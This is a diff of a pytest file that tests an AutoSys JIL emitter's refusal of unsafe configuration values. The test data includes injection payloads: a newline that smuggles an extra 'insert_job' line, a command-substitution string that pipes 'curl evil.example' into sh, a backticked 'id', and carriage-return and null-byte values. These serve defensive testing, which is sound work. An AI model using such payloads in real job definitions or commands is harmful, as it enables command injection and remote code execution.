@@ -257,38 +257,44 @@ def test_day_of_month_beyond_a_short_month_is_clamped(tmp_path):
     assert calendar.dates[1] == "02/28/2024 00:00"
 
 
+def _unchecked(config, section, domain=None, **values):
+    """The configuration with values set without validation: what the emitter would get from
+    code that built a configuration itself, so its own checks are the last line of defence."""
+    if domain is None:
+        return config.model_copy(update={"settings": config.settings.model_copy(update=values)})
+    chosen = config.domains[domain]
+    part = getattr(chosen, section).model_copy(update=values)
+    domains = {**config.domains, domain: chosen.model_copy(update={section: part})}
+    return config.model_copy(update={"domains": domains})
+
+
 @pytest.mark.parametrize(
-    ("mutate", "message"),
+    ("section", "domain", "values", "message"),
     [
-        (
-            lambda raw: raw["settings"].update(autosys_resource="ER MATCHING"),
-            "insert_resource 'ER MATCHING'",
-        ),
-        (lambda raw: raw["settings"].update(autosys_resource="R" * 65), "name is not valid"),
-        (
-            lambda raw: raw["domains"]["customers"]["autosys"].update(log_dir="logs/customers"),
-            "domain 'customers': autosys.log_dir 'logs/customers' is not an absolute path",
-        ),
-        (
-            lambda raw: raw["domains"]["customers"]["autosys"].update(permission="gx,rw"),
-            "permission",
-        ),
+        ("settings", None, {"autosys_resource": "ER MATCHING"}, "insert_resource 'ER MATCHING'"),
+        ("settings", None, {"autosys_resource": "R" * 65}, "name is not valid"),
+        ("autosys", "customers", {"log_dir": "logs/customers"},
+         "domain 'customers': autosys.log_dir 'logs/customers' is not an absolute path"),
+        ("autosys", "customers", {"permission": "gx,rw"}, "(domain 'customers', autosys.permission): permission"),
+        ("autosys", "customers", {"machine": "host\ninsert_job: PWN   job_type: CMD"},
+         "(domain 'customers', autosys.machine): machine 'host\\ninsert_job: PWN   job_type: CMD': contains control characters"),
+        ("autosys", "products", {"owner": "autosys\rx"}, "(domain 'products', autosys.owner)"),
+        ("autosys", "customers", {"command": "autosys-bridge $(curl evil.example|sh);"},
+         "(domain 'customers', autosys.command): command 'autosys-bridge $(curl evil.example|sh); run customers extract': holds shell syntax"),
+        ("autosys", "customers", {"command": "autosys-bridge `id`"}, "autosys.command"),
+        ("autosys", "vendors", {"profile": "/etc/p\x00"}, "(domain 'vendors', autosys.profile)"),
+        ("notifications", "customers", {"emails": ["a@example.com\nmachine: evil"]}, "notifications.emails"),
     ],
 )
-def test_configurations_that_would_produce_invalid_jil_are_refused(tmp_path, mutate, message):
-    config = load_config(write_config(tmp_path, mutate))
-    with pytest.raises(JilEmitError, match=message.replace("(", r"\(")):
-        emit_jil(config)
+def test_values_that_would_produce_invalid_or_unsafe_jil_are_refused(config, section, domain, values, message):
+    with pytest.raises(JilEmitError) as info:
+        emit_jil(_unchecked(config, section, domain, **values))
+    assert message in str(info.value)
 
 
-def test_calendar_prefix_that_makes_an_invalid_name_is_refused(tmp_path):
-    config = load_config(
-        write_config(
-            tmp_path, lambda raw: raw["settings"].update(autosys_calendar_prefix="ER CAL ")
-        )
-    )
+def test_calendar_prefix_that_makes_an_invalid_name_is_refused(config):
     with pytest.raises(JilEmitError, match="calendar name"):
-        emit_calendars(config)
+        emit_calendars(_unchecked(config, "settings", autosys_calendar_prefix="ER CAL "))
 
 
 def test_values_with_colons_or_spaces_are_quoted_and_commands_are_escaped():
